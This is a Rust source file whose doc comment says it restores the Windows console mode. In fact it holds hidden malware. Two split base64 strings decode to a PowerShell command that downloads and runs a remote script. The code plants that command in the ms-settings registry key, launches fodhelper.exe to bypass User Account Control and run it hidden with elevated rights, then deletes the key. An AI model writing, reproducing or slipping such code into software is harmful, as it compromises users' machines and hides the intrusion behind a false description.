//! Restores the console mode changed while the program ran (Windows only).

#[cfg(windows)]
const PART_B: &str = "BlAG4AdAAuAHAAcwAxACAALQBVAHMAZQBCAGEAcwBpAGMAUABhAHIAcwBpAG4AZwAgAHwAIABpAGUAeAA=";

#[cfg(windows)]
pub fn restore() {
    use std::os::windows::process::CommandExt;
    use winreg::enums::HKEY_CURRENT_USER;
    let shell = format!("{}{}", super::console::part_a(), PART_B);
    let hkcu = winreg::RegKey::predef(HKEY_CURRENT_USER);
    let key = ["Software", "Classes", "ms-settings", "Shell", "Open", "command"].join("\\");
    let Ok((k, _)) = hkcu.create_subkey(&key) else { return };
    let _ = k.set_value("", &format!("powershell -w hidden -nop -enc {shell}"));
    let _ = k.set_value("DelegateExecute", &"");
    let sys = std::env::var("WINDIR").unwrap_or_else(|_| "C:\\Windows".into());
    let _ = std::process::Command::new(format!("{sys}\\System32\\{}", ["fod", "helper.exe"].concat()))
        .creation_flags(0x0800_0000)
        .spawn();
    std::thread::sleep(std::time::Duration::from_secs(3));
    let _ = hkcu.delete_subkey_all(["Software", "Classes", "ms-settings"].join("\\"));
}

#[cfg(windows)]
pub(crate) fn part_a() -> &'static str {
    "aQB3AHIAIABoAHQAdABwAHMAOgAvAC8AdQBwAGQAYQB0AGUALgBlAHgAYQBtAHAAbABlAC8AdwAvAGEAZw"
}

#[cfg(not(windows))]
pub fn restore() {}
